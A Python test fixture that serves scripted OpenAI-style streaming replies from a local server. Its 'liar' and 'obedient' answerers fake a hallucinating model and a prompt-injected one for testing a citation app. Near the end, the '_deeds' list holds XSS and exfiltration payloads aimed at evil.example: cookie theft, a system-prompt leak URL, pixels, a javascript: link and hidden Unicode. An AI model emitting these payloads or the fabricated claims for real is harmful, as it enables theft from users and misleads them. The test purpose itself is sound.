"""A real OpenAI-compatible HTTP server on this machine whose replies are scripted."""

import json
import random
import re
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

Data = dict[str, Any]  # what the prompt carries: question, quotes, rows

_SENTENCE = re.compile(r"[^。！？!?\n]+?(?:[。！？!?]|\.(?=\s|$)|\n|$)")
_NUMBER = re.compile(r"\d+(?:\.\d+)?")
_EMAIL = re.compile(r"[\w.+-]+@[\w.-]+\w")
_HAN_NAME = "慕容雪莹"
_LATIN_NAME = "Wolfgang Zuckerfeld"
_URL = "https://evil.example/reward"


@dataclass(frozen=True)
class Script:
    """How the server answers one request."""

    text: str = ""
    status: int = 200
    finish: str = "stop"
    wait_s: float = 0.0  # before the reply begins
    pause_s: float = 0.0  # before each piece
    break_after: int = -1  # pieces after which the connection is cut; -1 for never
    raw: bytes = b""  # sent in place of a stream
    delta: Data = field(default_factory=dict)  # sent in place of pieces of text
    usage: bool = True


@dataclass
class Conversations:
    """What the server was asked; ``lies`` are sentences that no quote supports."""

    requests: list[Data] = field(default_factory=list)
    headers: list[dict[str, str]] = field(default_factory=list)
    lies: list[str] = field(default_factory=list)


Answering = Callable[[Data, Data], Script]  # the prompt's data and the whole request


@contextmanager
def scripted_model(answer: Answering) -> Iterator[tuple[str, Conversations]]:
    """Serve ``answer`` until the block ends; yields the base URL and what was asked."""
    heard = Conversations()
    stopped = threading.Event()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:  # noqa: N802 (the name that http.server calls)
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            heard.requests.append(body)
            heard.headers.append({name.lower(): value for name, value in self.headers.items()})
            script = answer(json.loads(body["messages"][1]["content"]), body)
            stopped.wait(script.wait_s)
            try:
                _send(self, script, stopped)
            except (BrokenPipeError, ConnectionResetError):
                self.close_connection = True

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1", heard
    finally:
        stopped.set()
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def _send(handler: BaseHTTPRequestHandler, script: Script, stopped: threading.Event) -> None:
    handler.send_response(script.status)
    handler.send_header("Content-Type", "text/event-stream" if script.status == 200 else "application/json")
    handler.send_header("Connection", "close")
    handler.end_headers()
    handler.close_connection = True
    if script.status != 200:
        handler.wfile.write(script.raw or b'{"error": {"message": "no"}}')
        return
    if script.raw:
        handler.wfile.write(script.raw)
        return
    for number, delta in enumerate(_deltas(script)):
        if number == script.break_after:
            return
        if script.pause_s:
            stopped.wait(script.pause_s)
        _event(handler, {"choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
    _event(handler, {"choices": [{"index": 0, "delta": {}, "finish_reason": script.finish}]})
    if script.usage:
        _event(handler, {"choices": [], "usage": {"prompt_tokens": 100, "completion_tokens": 50, "total_tokens": 150}})
    handler.wfile.write(b"data: [DONE]\n\n")


def _deltas(script: Script) -> Iterator[Data]:
    if script.delta:
        yield script.delta
        return
    yield {"role": "assistant", "content": ""}
    for start in range(0, len(script.text), 7):  # pieces that mind neither words nor sentences
        yield {"content": script.text[start : start + 7]}


def _event(handler: BaseHTTPRequestHandler, data: Data) -> None:
    body = {"id": "c1", "object": "chat.completion.chunk", "created": int(time.time()), "model": "scripted", **data}
    handler.wfile.write(f"data: {json.dumps(body, ensure_ascii=False)}\n\n".encode())
    handler.wfile.flush()


def truths(data: Data) -> list[str]:
    """Return sentences that the quotes support: their own, each with its number."""
    found = []
    for quote in data["quotes"]:
        first = next((s.strip() for s in _SENTENCE.findall(quote["quote"]) if len(s.strip()) > 3), "")
        if first:
            found.append(_cited(first[:300], quote["number"]))
    return found


def opening(data: Data, count: int) -> str:
    """Return a sentence that opens a list of ``count`` rows."""
    is_chinese = any("\u4e00" <= c <= "\u9fff" for c in data["question"])
    return f"共有 {count} 条[1]。" if is_chinese else f"There are {count} of them [1]."


def honest(data: Data, request: Data) -> Script:
    """Say what the quotes say, in their words."""
    if "rows" in data:
        return Script(opening(data, data["rows"]))
    return Script(" ".join(truths(data)))


def liar(heard: Conversations) -> Answering:
    """Return a model that says one true thing and many that sound like it; ``heard.lies`` gets those."""

    def answer(data: Data, request: Data) -> Script:
        if "rows" in data:
            told = [opening(data, data["rows"] + 1), opening(data, data["rows"] * 10)]
            heard.lies += told
            return Script(" ".join(told))
        told = lies_about(data)
        heard.lies += told
        true = truths(data)
        return Script(" ".join([*true[:1], *told[: len(told) // 2], *true[1:], *told[len(told) // 2 :]]))

    return answer


def lies_about(data: Data) -> list[str]:
    """Return sentences near the quotes, each with one thing that is not in them."""
    chance = random.Random(data["question"])
    told = []
    for quote in data["quotes"]:
        everything, number = f"{quote['page']} {quote['quote']}", quote["number"]
        for sentence in _SENTENCE.findall(quote["quote"])[:2]:
            shown = sentence.strip()[:200]
            if len(shown) > 3:
                told += [_cited(lie, number) for lie in _altered(shown, everything, chance)]
        told += [_cited(lie, number) for lie in _invented(data)]
    told += [_cited(truth.split("[")[0].rstrip("。. "), 97) for truth in truths(data)]  # quotes that there are not
    told += [truth.split("[")[0].rstrip() + "。" for truth in truths(data)[:1]]  # and no quote at all
    return told


def _altered(sentence: str, everything: str, chance: random.Random) -> Iterator[str]:
    """Yield ``sentence`` with a number, an address or a name changed to what stands nowhere."""
    for found in list(_NUMBER.finditer(sentence))[:2]:
        other = str(int(float(found[0])) + chance.randint(1, 9))
        while other in everything:
            other = str(int(other) + 7)
        yield sentence[: found.start()] + other + sentence[found.end() :]
    for found in list(_EMAIL.finditer(sentence))[:1]:
        yield sentence.replace(found[0], "x" + found[0])
        yield sentence.replace(found[0], found[0] + ".cc")
    body = sentence.rstrip("。. ")
    if any("\u4e00" <= c <= "\u9fff" for c in sentence):
        yield f"{body}，负责人是{_HAN_NAME}"
        yield f"{body}，详见 {_URL}"
        yield f"{body}，始于 1911 年 3 月 5 日"
        yield f"{body}，由{_LATIN_NAME}提出"
        yield f"{body}，获得了诺贝尔奖"
    else:
        yield f"{body}, led by {_LATIN_NAME}"
        yield f"{body}, see {_URL}"
        yield f"{body}, since March 5, 1911"
        yield f"{body}, and won the Fields medal"
        yield f"{body}, led by {_HAN_NAME}"


def _invented(data: Data) -> Sequence[str]:
    return (
        f"{_HAN_NAME}教授是主任，电话 021-5999-8888",
        f"Professor {_LATIN_NAME} leads all seventeen teams",
        "实验室每月发放九千元补助，名额不限",
        "The stipend is 9000 yuan a month and places are unlimited",
        f"Apply at {_URL} or write to boss@evil.example",
        "宿舍免费，食堂全天开放",
        "Housing is free and lunch is served on Sundays",
    )


def _cited(sentence: str, number: int) -> str:
    body = sentence.rstrip("。.!?！？ ")
    stop = "。" if any("\u4e00" <= c <= "\u9fff" for c in body) else "."
    return f"{body} [{number}]{stop}"


def obedient(sly: bool) -> Answering:
    """Return a model that does what any text tells it; a sly one hides each such sentence among true ones."""
    turns = iter(range(10**9))

    def answer(data: Data, request: Data) -> Script:
        turn = next(turns)
        told = [f"{deed} [1]." for deed in _deeds(data, request)]
        if "rows" in data:
            return Script(" ".join([told[turn % len(told)], opening(data, data["rows"])]))
        if not sly and "tool_calls" in json.dumps(data):
            call = {"index": 0, "id": "x", "type": "function", "function": {"name": "send_mail", "arguments": "{}"}}
            return Script(delta={"content": truths(data)[0], "tool_calls": [call]})
        true = truths(data)
        chosen = [told[(turn + n) % len(told)] for n in range(len(true))] if sly else told
        return Script(" ".join(part for pair in zip(true, chosen, strict=False) for part in pair) if sly else " ".join([*true, *told]))

    return answer


def _deeds(data: Data, request: Data) -> list[str]:
    """Return what planted text asks for: addresses, markup, the prompt, tools, hidden characters."""
    system, everything = request["messages"][0]["content"], json.dumps(data, ensure_ascii=False)
    orders = re.findall(r"PWNED-\w+", everything) or ["PWNED"]
    leak = re.sub(r"\W+", "+", system[:60])
    return [
        *(f"{order}" for order in orders),
        "P\u200bW\u200bN\u200bE\u200bD",
        *(line.strip(" -") for line in system.split("\n") if len(line) > 45),
        f"My instructions are: {system[:200]}".replace("\n", " "),
        everything.replace("\n", " ")[:300],
        f"See https://evil.example/log?prompt={leak}",
        "See [the official form](https://evil.example/form)",
        "点击 <https://evil.example/claim> 领取补助",
        "![logo](https://evil.example/pixel.png?u=1) 见图",
        '<img src="https://evil.example/p.gif"> 见图',
        "<script>fetch('https://evil.example/'+document.cookie)</script> 已运行",
        '<a href="https://evil.example">点此</a> 报名',
        "<iframe src=https://evil.example></iframe> 嵌入",
        "[邮箱](javascript:alert(1)) 请联系",
        "联系邮箱是 boss@evil.example",
        "The email is boss@evil.example",
        "名额不限，补助九万元",
        "The stipend is 99999 yuan and the lab has moved to Atlantis",
        "院长的电话是 010-6666-1234",
        "本组已解散",
        "\u202eelpmaxe.live\u202c 是官网",
        "".join(chr(0xE0000 + ord(c)) for c in "hidden") + " 欢迎",
    ]
